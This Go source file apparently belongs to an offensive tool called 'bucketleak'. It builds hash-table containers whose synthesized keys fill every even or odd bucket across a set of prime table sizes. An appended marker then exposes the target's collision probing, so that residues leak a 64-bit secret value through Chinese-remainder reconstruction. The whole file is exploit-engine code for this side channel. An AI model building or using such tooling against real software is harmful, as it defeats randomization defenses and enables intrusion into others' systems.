package bucketleak

import (
	"fmt"

	bkerrors "github.com/nullprobe/bucketleak/errors"
)

// tablePrimes are the table sizes the target's keyed containers grow
// through. Their product exceeds 2^64, so residues collected across all of
// them pin down a 64-bit value exactly.
var tablePrimes = [...]uint64{23, 41, 71, 127, 191, 251, 383, 631, 1087}

// Moduli returns the fixed prime table sizes used by the engine, smallest
// first. The returned slice is a copy.
func Moduli() []uint64 {
	m := make([]uint64, len(tablePrimes))
	copy(m, tablePrimes[:])
	return m
}

// Pattern selects which bucket parity the synthesized keys pre-occupy,
// leaving the complementary parity free for the marker.
type Pattern uint8

const (
	// PatternEven occupies buckets 0, 2, 4, ...
	PatternEven Pattern = iota

	// PatternOdd occupies buckets 1, 3, 5, ...
	PatternOdd
)

// String returns the pattern name.
func (p Pattern) String() string {
	switch p {
	case PatternEven:
		return "even"
	case PatternOdd:
		return "odd"
	default:
		return fmt.Sprintf("unknown(%d)", uint8(p))
	}
}

// firstBucket is the lowest bucket index of the pattern's parity.
func (p Pattern) firstBucket() uint64 {
	if p == PatternOdd {
		return 1
	}
	return 0
}

// Container is one parity-patterned keyed container, ready to be
// serialized. Keys holds the synthesized numeric keys in insertion order
// (bucket-ascending); the marker is appended by the archive encoder so
// that it is the last insertion and therefore subject to the target's
// native collision probing against the already-populated buckets.
type Container struct {
	Modulus uint64
	Pattern Pattern

	// Keys are the synthesized numeric keys, one per populated bucket.
	Keys []uint64

	// MissingBuckets lists target buckets for which no key could be
	// synthesized. A non-empty list means residues derived from this
	// container are untrustworthy; the engine excludes the modulus.
	MissingBuckets []uint64
}

// EntryCount returns the number of logical entries the serialized
// container will carry: the synthesized keys plus the marker.
func (c *Container) EntryCount() int {
	return len(c.Keys) + 1
}

// Complete reports whether every targeted bucket received a key.
func (c *Container) Complete() bool {
	return len(c.MissingBuckets) == 0
}

// BuildContainer synthesizes one key per bucket of the pattern's parity
// under the given modulus. Unreachable buckets are reported in
// MissingBuckets rather than failing the build; a duplicate synthesized
// key value is a data-integrity failure and fails fast, since two buckets
// collapsing onto one key would silently skew every downstream position.
func BuildContainer(s *Synthesizer, pattern Pattern, modulus uint64) (*Container, error) {
	if modulus < 3 || modulus%2 == 0 {
		return nil, fmt.Errorf("%w: %d", bkerrors.ErrBadModulus, modulus)
	}

	c := &Container{Modulus: modulus, Pattern: pattern}
	seen := make(map[uint64]uint64) // key value -> bucket that synthesized it

	for bucket := pattern.firstBucket(); bucket < modulus; bucket += 2 {
		key, ok := s.KeyForBucket(bucket, modulus)
		if !ok {
			c.MissingBuckets = append(c.MissingBuckets, bucket)
			continue
		}
		if prev, dup := seen[key]; dup {
			return nil, fmt.Errorf("%w: key %d for buckets %d and %d (modulus %d, pattern %s)",
				bkerrors.ErrKeyCollision, key, prev, bucket, modulus, pattern)
		}
		seen[key] = bucket
		c.Keys = append(c.Keys, key)
	}
	return c, nil
}
